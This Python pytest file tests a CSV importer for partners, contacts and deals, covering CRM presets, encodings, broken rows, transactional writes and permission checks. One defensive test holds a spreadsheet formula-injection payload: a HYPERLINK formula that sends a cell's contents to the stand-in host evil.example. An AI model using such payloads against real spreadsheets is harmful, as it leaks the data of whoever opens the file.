"""CSV import: presets and editable mappings, encodings, separators, missing columns, broken rows,
all-or-nothing writes, formula injection, references and rights."""

from __future__ import annotations

import io
from datetime import date, timedelta

import pytest
from sqlalchemy import Engine, select, text

from tests.workbench.deals.conftest import World, count, snapshot
from tests.workbench.dupcheck.helpers import VENDOR, partner_actor
from workbench.csvio.importer import ImportOptions, parse_amount, parse_date, preview, run_import
from workbench.csvio.mappings import MAPPINGS, ImportKind, Source
from workbench.deals.models import DealProduct, DealRegistration
from workbench.errors import PermissionDenied, UserError
from workbench.partners.models import Contact, Partner

FUTURE = date.today() + timedelta(days=90)

SF_ACCOUNTS = (
    "Id,Name,Type,BillingCity,BillingCountry,Website,Phone,CurrencyIsoCode,Description\r\n"
    "001A,Müller Systemhaus GmbH,Channel Partner / Reseller,München,Germany,www.mueller-sys.de,+49 89 123456,EUR,\r\n"
    '001B,"Nordlicht IT, AG",Distributor,Hamburg,DE,https://nordlicht.de/about,,,"Line one\nline two"\r\n'
)

HS_COMPANIES = (
    "Record ID;Company name;Type;City;Country/Region;Company Domain Name;Phone Number\n"
    "1;Kowalski Sp. z o.o.;PARTNER;Warszawa;Poland;kowalski.pl;\n"
    "2;Alpenblick Consulting;;Innsbruck;Österreich;alpenblick.at;+43 512 1234\n"
)


def partners_of(engine: Engine) -> dict[str, Partner]:
    from sqlalchemy.orm import Session

    with Session(engine) as s:
        return {p.legal_name: p for p in s.scalars(select(Partner))}


def test_salesforce_accounts(engine: Engine, world: World) -> None:
    pv = preview(
        SF_ACCOUNTS.encode(),
        "partners",
        "salesforce",
        engine=engine,
        actor=VENDOR,
        options=ImportOptions(program_id=world.program_id),
    )
    assert (pv.total, pv.valid_count, pv.delimiter, pv.encoding) == (2, 2, ",", "utf-8")
    assert pv.columns["legal_name"] == "Name" and "Id" in pv.unmapped_headers
    before = snapshot(engine)
    result = run_import(engine, VENDOR, pv)
    assert result.created == 2 and result.skipped == 0
    rows = partners_of(engine)
    m = rows["Müller Systemhaus GmbH"]
    assert (m.partner_type, m.country, m.city, m.web_domain, m.currency) == (
        "reseller",
        "DE",
        "München",
        "www.mueller-sys.de",
        "EUR",
    )
    assert m.partner_id == m.id and m.status == "prospect" and m.name_norm == "mueller systemhaus gmbh"
    n = rows["Nordlicht IT, AG"]
    assert (n.partner_type, n.web_domain, n.description) == ("distributor", "nordlicht.de", "Line one\nline two")
    after = snapshot(engine)
    assert after["audit_events"] == before["audit_events"] + 2  # audited like every write
    assert after["outbox_ops"] == before["outbox_ops"] + 2  # and synced


def test_hubspot_companies_detected_with_semicolons(engine: Engine, world: World) -> None:
    pv = preview(
        HS_COMPANIES.encode(),
        ImportKind.PARTNERS,
        None,
        engine=engine,
        actor=VENDOR,
        options=ImportOptions(program_id=world.program_id),
    )
    assert pv.source == Source.HUBSPOT and pv.delimiter == ";"
    assert pv.valid_count == 2, [r.errors for r in pv.rows]
    run_import(engine, VENDOR, pv)
    rows = partners_of(engine)
    assert rows["Kowalski Sp. z o.o."].country == "PL"
    assert rows["Alpenblick Consulting"].country == "AT"
    assert rows["Alpenblick Consulting"].partner_type == "reseller"  # the default for an empty type


def test_mapping_is_editable(engine: Engine, world: World) -> None:
    data = b"Firma,Art,Land\nAcme GmbH,Agentur,Schweiz\n"
    with pytest.raises(UserError) as missing:
        preview(
            data,
            "partners",
            "salesforce",
            engine=engine,
            actor=VENDOR,
            options=ImportOptions(program_id=world.program_id),
        )
    assert missing.value.code == "missing_columns" and missing.value.params["fields"] == ["legal_name"]
    mapping = {**MAPPINGS[Source.SALESFORCE][ImportKind.PARTNERS], "legal_name": "Firma", "partner_type": "Art"}
    mapping["country"] = "Land"
    pv = preview(
        data, "partners", mapping, engine=engine, actor=VENDOR, options=ImportOptions(program_id=world.program_id)
    )
    assert pv.source is None and pv.rows[0].cleaned["partner_type"] == "agency"
    assert pv.rows[0].cleaned["country"] == "CH"
    with pytest.raises(UserError) as unknown:
        preview(
            data,
            "partners",
            {"legal_name": "Firma", "shoe_size": "x"},
            engine=engine,
            actor=VENDOR,
            options=ImportOptions(program_id=world.program_id),
        )
    assert unknown.value.code == "unknown_mapping_field"


def test_missing_required_columns_is_a_clear_error(engine: Engine, world: World) -> None:
    data = b"Deal Name,Amount\nX,5\n"
    with pytest.raises(UserError) as exc:
        preview(
            data, "deals", "hubspot", engine=engine, actor=VENDOR, options=ImportOptions(program_id=world.program_id)
        )
    assert exc.value.code == "missing_columns"
    assert exc.value.params["fields"] == ["customer_name", "expected_close"]
    assert exc.value.params["expected"]["expected_close"] == ["Close Date"]


def test_bom_and_windows_encodings(engine: Engine, world: World) -> None:
    text_ = "Name;BillingCity\nGrün & Söhne GmbH;Köln\n"
    with_bom = preview(
        b"\xef\xbb\xbf" + text_.encode(),
        "partners",
        "salesforce",
        engine=engine,
        actor=VENDOR,
        options=ImportOptions(program_id=world.program_id),
    )
    assert with_bom.encoding == "utf-8-sig" and not with_bom.encoding_fallback
    assert with_bom.headers[0] == "Name" and with_bom.rows[0].cleaned["legal_name"] == "Grün & Söhne GmbH"
    cp = preview(
        text_.encode("cp1252"),
        "partners",
        "salesforce",
        engine=engine,
        actor=VENDOR,
        options=ImportOptions(program_id=world.program_id),
    )
    assert cp.encoding == "cp1252" and cp.encoding_fallback and "encoding_fallback" in cp.warnings
    assert cp.rows[0].cleaned["city"] == "Köln"
    latin = preview(
        "Name\nA\x81b GmbH\n".encode("latin-1"),
        "partners",
        "salesforce",
        engine=engine,
        actor=VENDOR,
        options=ImportOptions(program_id=world.program_id),
    )
    assert latin.encoding == "latin-1"  # 0x81 is undefined in cp1252
    utf16 = preview(
        text_.encode("utf-16"),
        "partners",
        "salesforce",
        engine=engine,
        actor=VENDOR,
        options=ImportOptions(program_id=world.program_id),
    )
    assert utf16.rows[0].cleaned["legal_name"] == "Grün & Söhne GmbH"
    with pytest.raises(UserError) as forced:
        preview(text_.encode("cp1252"), "partners", "salesforce", engine=engine, actor=VENDOR,
                options=ImportOptions(program_id=world.program_id, encoding="utf-8"))  # fmt: skip
    assert forced.value.code == "encoding_mismatch"


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty_file"),
        (b"  \r\n", "empty_file"),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not_text_file"),
        (b'Name\n"' + b"x" * 200_000 + b'"\n', "csv_malformed"),
    ],
)
def test_garbage_files(engine: Engine, world: World, data: bytes, code: str) -> None:
    with pytest.raises(UserError) as exc:
        preview(
            data,
            "partners",
            "salesforce",
            engine=engine,
            actor=VENDOR,
            options=ImportOptions(program_id=world.program_id),
        )
    assert exc.value.code == code


BROKEN = (
    "Name,Type,Website,Email,BillingCountry\n"
    "Good One GmbH,Reseller,good1.de,info@good1.de,DE\n"
    ",Reseller,,,\n"  # line 3: no name
    "Bad Mail AG,Reseller,,not-an-email,DE\n"  # line 4
    "Bad Type AG,Vendor,,,DE\n"  # line 5
    "Too Many,Reseller,,,DE,extra\n"  # line 6
    "Bad Land GmbH,Reseller,bad domain,,Atlantis\n"  # line 7: two errors
    "Good Two GmbH,,good2.de,,\n"
)


def test_broken_rows_listed_and_nothing_written(engine: Engine, world: World) -> None:
    pv = preview(
        BROKEN.encode(),
        "partners",
        "salesforce",
        engine=engine,
        actor=VENDOR,
        options=ImportOptions(program_id=world.program_id),
    )
    assert (pv.total, pv.valid_count, pv.error_count) == (7, 2, 5)
    errors = {r.line: sorted((e.field, e.code) for e in r.errors) for r in pv.rows if r.errors}
    assert errors == {
        3: [("legal_name", "required")],
        4: [("email", "invalid_email")],
        5: [("partner_type", "invalid_choice")],
        6: [("row", "column_count")],
        7: [("country", "invalid_country"), ("web_domain", "invalid_domain")],
    }
    before = snapshot(engine) | {"partners": count(engine, "partners")}
    with pytest.raises(UserError) as exc:
        run_import(engine, VENDOR, pv)
    assert exc.value.code == "import_has_errors" and exc.value.params["rows"] == 5
    assert snapshot(engine) | {"partners": count(engine, "partners")} == before
    result = run_import(engine, VENDOR, pv, only_valid=True)
    assert (result.created, result.skipped) == (2, 5)
    assert {"Good One GmbH", "Good Two GmbH"} <= set(partners_of(engine))
    assert count(engine, "partners") == before["partners"] + 2


def test_unbalanced_quote_is_one_broken_row(engine: Engine, world: World) -> None:
    data = 'Name,City\nA GmbH,Berlin\n"B GmbH,Bonn\nC GmbH,Köln\n'.encode()
    pv = preview(
        data, "partners", "salesforce", engine=engine, actor=VENDOR, options=ImportOptions(program_id=world.program_id)
    )
    assert pv.rows[0].ok
    broken = pv.rows[1]
    assert [(e.code, e.params.get("end_line")) for e in broken.errors] == [("column_count", 4)]


def test_formula_injection_stored_as_text(engine: Engine, world: World) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    data = f'Name,Description\n"{evil.replace(chr(34), chr(34) * 2)}",@SUM(1+1)\n'.encode()
    pv = preview(
        data, "partners", "salesforce", engine=engine, actor=VENDOR, options=ImportOptions(program_id=world.program_id)
    )
    assert pv.valid_count == 1
    run_import(engine, VENDOR, pv)
    p = partners_of(engine)[evil]
    assert p.description == "@SUM(1+1)"


def test_run_import_is_all_or_nothing_when_a_reference_vanishes(engine: Engine, world: World) -> None:
    data = b"LastName,Account Name\nKim,Alpha Systems GmbH\nLee,Beta IT AG\n"
    pv = preview(
        data, "contacts", "salesforce", engine=engine, actor=VENDOR, options=ImportOptions(program_id=world.program_id)
    )
    assert pv.valid_count == 2
    with engine.begin() as conn:
        conn.execute(text("UPDATE partners SET deleted_at = created_at WHERE id = :id"), {"id": world.partner_b})
    before = snapshot(engine) | {"contacts": count(engine, "contacts")}
    with pytest.raises(UserError) as exc:
        run_import(engine, VENDOR, pv)
    assert exc.value.code == "unknown_reference"
    assert snapshot(engine) | {"contacts": count(engine, "contacts")} == before


def test_contacts_resolve_partner_by_name_and_respect_rights(engine: Engine, world: World) -> None:
    data = (
        b"FirstName,LastName,Email,Title,Account Name,Contact Role\n"
        b"Jana,Schulz,jana@alpha.de,CEO,alpha systems gmbh,owner\n"
        b"Tom,Berg,,Sales,Nobody Ltd,\n"
        b"Eva,Klein,,,Beta IT AG,finance\n"
        b"Max,Roth,,,Alpha Systems GmbH,janitor\n"
    )
    pv = preview(
        data, "contacts", "salesforce", engine=engine, actor=VENDOR, options=ImportOptions(program_id=world.program_id)
    )
    codes = [[(e.field, e.code) for e in r.errors] for r in pv.rows]
    assert codes == [[], [("partner", "unknown_reference")], [], [("role", "invalid_choice")]]
    assert pv.rows[0].cleaned["partner_id"] == world.partner_a and pv.rows[0].cleaned["role"] == "owner"
    as_partner = preview(
        data,
        "contacts",
        "salesforce",
        engine=engine,
        actor=partner_actor(world.partner_a),
        options=ImportOptions(program_id=world.program_id),
    )
    assert [(e.field, e.code) for e in as_partner.rows[2].errors] == [("partner", "permission_denied")]
    run_import(engine, VENDOR, pv, only_valid=True)
    from sqlalchemy.orm import Session

    with Session(engine) as s:
        assert sorted(c.last_name for c in s.scalars(select(Contact))) == ["Klein", "Schulz"]


def test_partner_role_cannot_import_partners(engine: Engine, world: World) -> None:
    with pytest.raises(PermissionDenied):
        preview(
            SF_ACCOUNTS.encode(),
            "partners",
            "salesforce",
            engine=engine,
            actor=partner_actor(world.partner_a),
            options=ImportOptions(program_id=world.program_id),
        )


def test_deals_from_hubspot(engine: Engine, world: World) -> None:
    us = FUTURE.strftime("%m/%d/%Y")
    de = FUTURE.strftime("%d.%m.%Y")
    data = (
        "Deal Name;Associated Company;Amount;Currency;Close Date;Company Domain Name;Products\n"
        f"Rollout;Müller Systemhaus GmbH;12.345,67;EUR;{FUTURE.isoformat()} 10:00;mueller.de;SRV-1, LIC-1\n"
        f"Upgrade;Acme Inc.;1,234.50;USD;{us};;srv-1\n"
        f"Past;Old AG;10;EUR;01.01.2020;;\n"
        f"Neg;Neg AG;-5;EUR;{de};;\n"
        f"Bad;Bad AG;abc;XXX;{de};;NOPE-1\n"
    ).encode()
    partner = partner_actor(world.partner_a)
    pv = preview(
        data, "deals", "hubspot", engine=engine, actor=partner, options=ImportOptions(program_id=world.program_id)
    )
    codes = [sorted(e.code for e in r.errors) for r in pv.rows]
    assert codes == [[], [], ["end_before_start"], ["money_negative"], ["money_invalid", "unknown_reference"]]
    first = pv.rows[0].cleaned
    assert (first["amount_minor"], first["currency"], first["customer_domain"]) == (1_234_567, "EUR", "mueller.de")
    assert pv.rows[1].cleaned["amount_minor"] == 123_450 and pv.rows[1].cleaned["expected_close"] == FUTURE
    assert first["partner_id"] == world.partner_a  # a partner user's own partner by default
    result = run_import(engine, partner, pv, only_valid=True)
    assert result.created == 2
    from sqlalchemy.orm import Session

    with Session(engine) as s:
        deals = {d.title: d for d in s.scalars(select(DealRegistration))}
        assert deals["Rollout"].status == "draft" and deals["Rollout"].provisional
        assert deals["Rollout"].customer_name_norm == "mueller systemhaus"
        assert s.scalar(select(text("count(*)")).select_from(DealProduct)) == 3


def test_vendor_deal_import_needs_a_partner(engine: Engine, world: World) -> None:
    data = f"Deal Name,Associated Company,Amount,Close Date\nX,Y GmbH,5,{FUTURE.isoformat()}\n".encode()
    pv = preview(
        data, "deals", "hubspot", engine=engine, actor=VENDOR, options=ImportOptions(program_id=world.program_id)
    )
    assert [(e.field, e.code) for e in pv.rows[0].errors] == [("partner", "required")]
    pv2 = preview(
        data,
        "deals",
        "hubspot",
        engine=engine,
        actor=VENDOR,
        options=ImportOptions(program_id=world.program_id, partner_id=world.partner_b),
    )
    assert pv2.rows[0].cleaned["partner_id"] == world.partner_b


def test_preview_of_another_user_is_refused(engine: Engine, world: World) -> None:
    pv = preview(
        SF_ACCOUNTS.encode(),
        "partners",
        "salesforce",
        engine=engine,
        actor=VENDOR,
        options=ImportOptions(program_id=world.program_id),
    )
    other = VENDOR.__class__("cm-2", VENDOR.role, "dev")
    with pytest.raises(UserError) as exc:
        run_import(engine, other, pv)
    assert exc.value.code == "preview_of_other_user"


def test_file_objects_and_paths(engine: Engine, world: World, tmp_path: object) -> None:
    from pathlib import Path

    path = Path(str(tmp_path)) / "a.csv"
    path.write_bytes(SF_ACCOUNTS.encode())
    assert (
        preview(
            path,
            "partners",
            "salesforce",
            engine=engine,
            actor=VENDOR,
            options=ImportOptions(program_id=world.program_id),
        ).total
        == 2
    )
    assert (
        preview(
            io.BytesIO(SF_ACCOUNTS.encode()),
            "partners",
            "salesforce",
            engine=engine,
            actor=VENDOR,
            options=ImportOptions(program_id=world.program_id),
        ).total
        == 2
    )


@pytest.mark.parametrize(
    ("raw", "minor"),
    [("1234.56", "1234.56"), ("1.234,56", "1234.56"), ("1,234.56", "1234.56"), ("1234,5", "1234.5"),
     ("1,234,567", "1234567"), ("€ 99", "99"), ("1 000,00", "1000.00")],
)  # fmt: skip
def test_parse_amount(raw: str, minor: str) -> None:
    from decimal import Decimal

    assert parse_amount(raw) == Decimal(minor)


def test_parse_date_formats() -> None:
    assert parse_date("2026-05-31", "d") == date(2026, 5, 31)
    assert parse_date("2026-05-31T10:00:00Z", "d") == date(2026, 5, 31)
    assert parse_date("31.05.2026", "d") == date(2026, 5, 31)
    assert parse_date("05/31/2026", "d") == date(2026, 5, 31)
    for bad in ("31/05/2026", "2026-02-30", "tomorrow"):
        with pytest.raises(UserError):
            parse_date(bad, "d")
